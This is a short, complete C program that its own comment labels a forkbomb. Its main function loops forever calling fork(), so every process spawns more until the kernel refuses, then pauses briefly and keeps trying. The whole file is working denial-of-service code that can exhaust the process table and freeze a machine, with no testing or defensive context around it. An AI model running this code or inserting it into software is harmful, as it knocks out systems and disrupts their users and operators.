/* forkbomb: every process of it makes more of them for as long as the kernel lets it. */
#include <time.h>
#include <unistd.h>

int main(void)
{
    struct timespec pause = {0, 5000000};

    for (;;)
        if (fork() < 0)
            nanosleep(&pause, NULL);
}
